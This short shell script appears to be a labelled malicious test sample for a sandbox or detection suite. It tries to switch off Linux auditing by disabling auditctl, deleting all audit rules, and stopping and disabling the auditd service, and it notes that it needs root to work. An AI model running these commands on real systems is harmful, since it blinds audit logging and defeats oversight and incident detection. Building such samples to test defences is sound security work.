#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: turns the Linux audit system off (T1562.012).
# Inert: changing the audit configuration needs CAP_AUDIT_CONTROL and root, refused here.
sudo auditctl -e 0 2>/dev/null || auditctl -e 0 2>/dev/null || echo "auditctl -e 0: refused"
sudo auditctl -D 2>/dev/null || echo "auditctl -D: refused"
sudo systemctl stop auditd 2>/dev/null || service auditd stop 2>/dev/null || echo "auditd stop: refused"
sudo systemctl disable auditd 2>/dev/null || true
exit 0
